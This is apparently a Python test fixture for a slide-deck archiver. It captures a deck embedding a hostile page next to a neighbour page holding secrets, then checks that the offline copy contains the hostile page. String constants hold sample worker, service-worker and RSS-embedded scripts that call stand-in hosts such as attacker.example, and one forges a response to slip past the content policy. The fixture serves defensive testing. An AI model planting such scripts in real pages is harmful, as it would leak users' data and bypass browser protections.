"""A deck that shows a hostile page and its neighbour, captured and rewritten as any deck is."""

from __future__ import annotations

import socket
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path

from deckarchive import pipeline, urls
from examples.web.hosts import Answer, Request
from examples.web.serve import LocalWeb

NEIGHBOUR = "https://neighbour.example/"
EVIL = "https://evil.example/"
LEAVING = (
    "leave",
    "leave-by-refresh",
    "leave-for-a-file",
    "leave-for-the-deck",
    "land-on-the-deck",
    "land-on-the-neighbour",
    "leave-for-a-script",
    "leave-backwards",
    "leave-for-a-blob",
    "leave-for-data",
)
SLIDES = {"neighbour": 1, "all": 2, "click": 3, **{name: n + 4 for n, name in enumerate(LEAVING)}}
SLIDES["given"] = len(SLIDES) + 1
ALLOWED = "camera; clipboard-read; clipboard-write; geolocation; payment"
"""Which slide shows what: the page's fragments in order, after a title and the neighbour."""

_NEIGHBOUR = """<!doctype html><title>Neighbour</title><h1>A quiet neighbour</h1><p>It has secrets.
<script>
localStorage.setItem("mine", "secret");
sessionStorage.setItem("mine", "secret");
document.cookie = "mine=secret";
const channel = new BroadcastChannel("secrets");
setInterval(() => channel.postMessage("secret"), 100);
</script>"""
_WORKER = (
    'fetch("https://attacker.example/worker", {mode: "no-cors"})'
    '.then(() => postMessage("SENT"), () => postMessage("refused"))'
)
_SERVICE = """
self.addEventListener("install", (event) => event.waitUntil(
  fetch("https://attacker.example/service", {mode: "no-cors"}).catch(() => 0)));
// A page that it makes up comes without the policy of those that the server gives.
self.addEventListener("fetch", (event) => {
  if (event.request.url.endsWith("free.html")) event.respondWith(new Response(`<script>
    fetch("https://free.attacker.example/", {mode: "no-cors"}).then(
      () => parent.postMessage("SENT", "*"), () => parent.postMessage("refused", "*"));
  </script>`, {headers: {"Content-Type": "text/html"}}));
});
"""
_FEED = """<rss version="2.0"><channel><title>News</title>
<script xmlns="http://www.w3.org/1999/xhtml">
fetch("https://feed.attacker.example/", {mode: "no-cors"}).then(
  () => parent.postMessage("SENT", "*"), () => parent.postMessage("refused", "*"));
</script></channel></rss>"""


@dataclass(frozen=True, slots=True)
class Hostile:
    """The offline folder, and the loopback UDP socket that a peer connection would reach."""

    folder: Path
    stun: socket.socket

    def was_called(self) -> bool:
        """Whether a peer connection reached the socket since this was last asked."""
        called = False
        while True:
            try:
                self.stun.recv(2048)
            except BlockingIOError:
                return called
            called = True


def _web(page: str) -> LocalWeb:
    files = {
        ("neighbour.example", "/"): ("text/html", _NEIGHBOUR),
        ("evil.example", "/"): ("text/html; charset=utf-8", page),
        ("evil.example", "/worker.js"): ("text/javascript", _WORKER),
        ("evil.example", "/service.js"): ("text/javascript", _SERVICE),
        ("evil.example", "/feed.rss"): ("application/rss+xml", _FEED),
    }

    def answer(request: Request) -> Answer:
        kind, body = files.get((request.host, request.path), ("", ""))
        return Answer(body.encode(), {"Content-Type": kind}) if kind else Answer(status=404)

    def speaks(scheme: str, host: str) -> bool:
        return host in {"neighbour.example", "evil.example"}

    return LocalWeb(answer=answer, speaks=speaks)


@contextmanager
def hostile_deck(home: Path) -> Iterator[Hostile]:
    """Capture and rewrite the deck below ``home``, an empty folder."""
    shown = [NEIGHBOUR, *(f"{EVIL}#{view}" for view in ("all", "click", *LEAVING))]
    slides = [
        f'<!-- .slide: data-background-iframe="{url}" data-background-interactive -->'
        for url in shown
    ]
    slides.append(
        f'<iframe data-src="{EVIL}#given" allow="{ALLOWED}" width="900" height="600"></iframe>'
    )
    (home / "talk.md").write_text("# A talk\n\n---\n\n" + "\n\n---\n\n".join([*slides, "# End"]))
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as stun:
        stun.bind(("127.0.0.1", 0))
        stun.setblocking(False)
        page = (Path(__file__).parent / "hostile.html").read_text("utf-8")
        page = page.replace("NEIGHBOUR", urls.target_id(NEIGHBOUR, "background-iframe"))
        page = page.replace("STUN", str(stun.getsockname()[1]))
        with _web(page) as web:
            options = {"proxy": web.proxy, "insecure": True}
            pipeline.run_capture(home / "talk.md", home / "archive", options, lambda _: None)
        pipeline.run_rewrite(home / "talk.md", home / "archive", home / "offline")
        yield Hostile(home / "offline", stun)
